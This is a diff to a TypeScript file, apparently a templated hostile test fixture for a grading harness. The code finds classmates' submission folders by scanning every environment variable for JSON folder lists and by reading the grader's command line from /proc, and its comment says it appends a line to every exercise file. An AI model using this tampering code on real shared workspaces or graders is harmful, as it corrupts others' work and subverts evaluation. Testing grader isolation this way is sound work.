@@ -1,5 +1,5 @@
 // Attack: writes to classmates' hand-ins while the class is graded. They are found through the
-// grader's environment (WORKBOOK_TARGETS), the grader's command line, a guess, and by walking up from this
+// grader's environment (any variable that holds a JSON list of folders), the grader's command line, a guess, and by walking up from this
 // file to the class folder. Every exercise file of every classmate gets a line appended.
 import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
@@ -11,7 +11,14 @@ const MARK = ['hostile', '{{NAME}}'].join(':');
 const me = resolve(fileURLToPath(import.meta.url), '../../..');
 
 const classes = new Set<string>(['{{CLASS}}', dirname(me)]);
-for (const target of JSON.parse(process.env.WORKBOOK_TARGETS ?? '[]') as string[]) classes.add(resolve(target, '../..'));
+for (const value of Object.values(process.env)) {
+  try {
+    const listed: unknown = JSON.parse(value ?? '');
+    if (Array.isArray(listed)) for (const target of listed) if (typeof target === 'string') classes.add(resolve(target, '../..'));
+  } catch {
+    // not a list
+  }
+}
 try {
   const grader = readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8').split('\0');
   const at = grader.findIndex((arg) => arg.endsWith('grade.ts'));
